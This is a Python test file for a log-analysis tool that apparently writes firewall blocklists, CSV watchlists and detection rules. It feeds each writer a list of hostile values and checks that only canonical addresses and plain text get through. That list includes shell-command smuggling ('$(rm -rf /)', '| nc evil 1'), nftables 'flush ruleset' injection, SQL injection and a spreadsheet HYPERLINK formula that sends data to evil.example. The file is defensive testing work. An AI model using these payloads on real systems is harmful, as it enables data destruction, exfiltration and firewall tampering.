"""Every writer × every hostile value: what goes into a firewall or a spreadsheet holds typed values only.

Log content is attacker-controlled. An IPv6 zone id (``fe80::1%a } } flush ruleset``) passes
:mod:`ipaddress`; ``1.2.3.4/0`` is a network that blocks everyone; ``=HYPERLINK(...)`` is a formula;
a newline starts a new entry of a one-per-line file. Each case below puts one such value where a log
would (an actor address, a user agent, an account, a web client, a campaign's invariant value) and
checks what each writer made of it.
"""

from __future__ import annotations

import csv
import ipaddress
import re

import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from tracehound.findings import Finding
from tracehound.report import write_outputs
from tracehound.report.blocklist import BlockPolicy, clean, parse_entry, render, scope, write_blocklist
from tracehound.report.safety import FORMULA_PREFIXES
from tracehound.report.tables import write_csv

HOSTILE = [
    "fe80::1%a } } flush ruleset", "fe80::1%eth0\nflush ruleset", "2001:db8::5%25x", "1.2.3.4\r\n5.6.7.8",
    "1.2.3.4\n", "\r1.2.3.4", "1.2.3.4/0", "0.0.0.0/0", "::/0", "45.1.2.3/8", "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1+2", "@SUM(A1)", "\t=1", " =1",
    "1.2.3.4;reboot", "$(rm -rf /)", "`id`", "1.2.3.4 | nc evil 1", "' OR 1=1 --", "a\u2028b",
    "10.0.0.1", "127.0.0.1", "224.0.0.1", "0.0.0.0", "::ffff:10.0.0.9", "fe80::1", "*", "?",
]
#: A genuine attacker address that must survive next to every hostile value.
GOOD = "45.33.12.7"
NFT_SKELETON = {"table inet tracehound_block {", "set v4 { type ipv4_addr; flags interval; }",
                "set v6 { type ipv6_addr; flags interval; }", "chain input {",
                "type filter hook input priority -10; policy accept;", "ip saddr @v4 drop",
                "ip6 saddr @v6 drop", "}"}


def _findings(value: str) -> list[Finding]:
    """The hostile value everywhere a log puts text: scanner address, agents, accounts, invariants."""
    spray = Finding(
        kind="fast_spray", id="fast_spray-001", title="Fast password spray", severity="high", score=2.0,
        first_seen="2024-01-03T00:00:00Z", last_seen="2024-01-03T01:00:00Z",
        actors={"ips": [value, GOOD], "user_agents": [value, "python-requests/2.31.0"]},
        targets={"users": [value, "alice@contoso.com"]}, event_ids=["e1"],
        explanation=value,
        evidence={"compromised_users": [value],
                  "anomalous_values": {"user_agent": [value, "python-requests/2.31.0"]},
                  "invariant_fields": {"user_agent": {"kind": "invariant", "values": [value]},
                                       "client_app": {"kind": "invariant", "values": ["IMAP4"]},
                                       "country": {"kind": "invariant", "values": [value]}},
                  "field_value_probabilities": {"user_agent": {value: 1e-5}, "client_app": {"IMAP4": 1e-3}}})
    scan = Finding(kind="host_scan", id="host_scan:x", title="scan", severity="high", score=5.0,
                   first_seen="2024-01-05T00:00:00Z", last_seen="2024-01-05T01:00:00Z",
                   actors={"ips": [value]}, targets={"ips": ["10.0.0.7"]}, event_ids=["c1"], explanation="x")
    guess = Finding(kind="password_guessing", id="password_guessing:x", title="guess", severity="high",
                    score=5.0, first_seen="2024-01-05T00:00:00Z", last_seen="2024-01-05T01:00:00Z",
                    actors={"ips": [GOOD], "hosts": [value, "WS-07"]}, targets={"users": ["bob"]},
                    event_ids=["g1"], explanation="x")
    web = Finding(kind="web_session", id="web-00001", title="scanner", severity="high", score=9.0,
                  first_seen="2024-01-05T00:00:00Z", last_seen="2024-01-05T01:00:00Z",
                  actors={"ips": [value], "user_agents": [value]}, event_ids=["w1"], explanation="x",
                  evidence={"probed_paths": [f"GET /{value}", "GET /wp-login.php"]})
    return [spray, scan, guess, web]


def _address_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def _assert_canonical_external(entry: str) -> None:
    parsed = ipaddress.ip_network(entry, strict=True) if "/" in entry else ipaddress.ip_address(entry)
    assert str(parsed) == entry and "%" not in entry
    if isinstance(parsed, (ipaddress.IPv4Network, ipaddress.IPv6Network)):
        assert parsed.prefixlen >= (24 if parsed.version == 4 else 48)
        parsed = parsed.network_address
    assert not (parsed.is_loopback or parsed.is_multicast or parsed.is_unspecified or parsed.is_link_local)
    assert not any(parsed in ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"))


def _nft_elements(text: str) -> list[str]:
    elements = []
    for line in text.splitlines():
        if "elements = {" in line:
            elements += [e.strip() for e in line.split("elements = {", 1)[1].split("}", 1)[0].split(",")]
    return elements


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """Every output of a run, once per hostile value."""
    out = {}
    for i, value in enumerate(HOSTILE):
        folder = tmp_path_factory.mktemp(f"hostile{i}")
        out[value] = write_outputs(_findings(value), folder, [("inputs", value)])
    return out


@pytest.mark.parametrize("value", HOSTILE)
def test_ip_blocklists_hold_canonical_external_addresses_only(written, value):
    paths = written[value]
    plain = _address_lines(paths["blocklist_ips.txt"].read_text())
    assert GOOD in plain
    for entry in plain:
        _assert_canonical_external(entry)
    nft = paths["blocklist_ips.nft"].read_text()
    assert sorted(_nft_elements(nft)) == sorted(plain)
    # every line is the ruleset's own; log values appear only as parsed set elements
    for line in (x.strip() for x in nft.splitlines() if x and not x.startswith("#")):
        element_free = re.sub(r" elements = \{[^}]*\};", "", line)
        assert element_free in NFT_SKELETON, line
    for line in _address_lines(paths["blocklist_ips.ipset"].read_text()):
        words = line.split(" ")
        assert words[0] in ("create", "add") and len(words) in (4, 6)
        if words[0] == "add":
            _assert_canonical_external(words[2])


@pytest.mark.parametrize("value", HOSTILE)
def test_isolate_hosts_hold_internal_addresses_and_host_names_only(written, value):
    for line in written[value]["isolate_hosts.txt"].read_text().splitlines():
        try:
            parsed = ipaddress.ip_address(line)
            assert str(parsed) == line and parsed.is_private
        except ValueError:
            assert re.fullmatch(r"[a-z0-9][a-z0-9._-]*", line), line


@pytest.mark.parametrize("value", HOSTILE)
def test_user_agent_blocklist_is_one_agent_a_line(written, value):
    lines = written[value]["blocklist_user_agents.txt"].read_text().split("\n")
    assert lines[-1] == "" and "python-requests/2.31.0" in lines
    assert all(not re.search(r"[\x00-\x1f\x7f\u2028\u2029]", line) for line in lines)
    # the web visitor's agent is never a blocklist entry, only the campaign's rare ones
    assert len(lines) - 1 <= 2


@pytest.mark.parametrize("value", HOSTILE)
def test_watchlist_cells_are_text_never_formulas(written, value):
    with written[value]["watchlist_accounts.csv"].open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][:3] == ["account", "status", "incidents"]
    for row in rows[1:]:
        assert len(row) == len(rows[0])
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_PREFIXES) and "\n" not in cell and "\r" not in cell


@pytest.mark.parametrize("value", HOSTILE)
def test_ips_csv_cells_are_typed_and_formula_safe(tmp_path, value):
    frame = pd.DataFrame({"client_ip": [value, GOOD], "risk": ["high", "low"], "score": [-3.5, 2.0],
                          "sessions": [1, 2], "user_agent": [value, "curl/8"]})
    path = write_csv(frame, tmp_path / "ips.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 3 and rows[2][2] == "2.0" and rows[1][2] == "-3.5"  # numbers stay numbers
    for row in rows:
        for i, cell in enumerate(row):
            if i not in (2, 3):
                assert not cell.lstrip(" ").startswith(FORMULA_PREFIXES) and "\n" not in cell and "\r" not in cell


@pytest.mark.parametrize("fmt", ["plain", "nftables", "ipset"])
@pytest.mark.parametrize("value", HOSTILE)
def test_web_blocklist_file_holds_parsed_values_only(tmp_path, value, fmt):
    path, written_n, skipped = write_blocklist([value, GOOD], tmp_path / "block", fmt)
    body = "\n".join(_address_lines(path.read_text()))
    assert written_n == 1 and skipped == 1  # every hostile value above is refused or internal
    assert GOOD in body and not re.search(r"flush|reboot|rm |nc |id`|%|HYPERLINK|OR 1", body)
    if fmt == "plain":
        assert body == GOOD
    elif fmt == "ipset":
        assert [line.split(" ")[2] for line in body.splitlines() if line.startswith("add ")] == [GOOD]
    else:
        assert _nft_elements(body) == [GOOD]


@pytest.mark.parametrize("value", HOSTILE)
def test_detection_rules_load_in_pysigma_and_carry_no_injected_line(written, value):
    from sigma.rule import SigmaRule

    docs = list(yaml.safe_load_all(written[value]["detection_rules.yml"].read_text()))
    assert docs, "the spray's IMAP4 invariant always makes a rule"
    for doc in docs:
        SigmaRule.from_dict(doc)
    for line in written[value]["detection_rules.kql"].read_text().splitlines():
        assert line == "" or line.startswith(("//", "| ", "SigninLogs", "W3CIISLog")), line


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=45), st.ip_addresses().map(str),
                          st.builds(lambda a, p: f"{a}/{p}", st.ip_addresses(), st.integers(0, 128))),
                max_size=8))
def test_cleaning_never_lets_anything_but_canonical_external_entries_through(values):
    cleaned = clean(values, BlockPolicy())
    for entry in cleaned.block:
        _assert_canonical_external(entry)
    # nothing is lost: each value is refused, or it parses (and is blocked, isolated or covered)
    assert len(cleaned.refused) + sum(parse_entry(v)[0] is not None for v in values
                                      if not _special(v)) == len(values)
    render(cleaned.block, "nftables")  # would raise on anything not canonical


def _special(value: str) -> bool:
    entry, _ = parse_entry(value)
    return entry is not None and scope(entry) == "special"
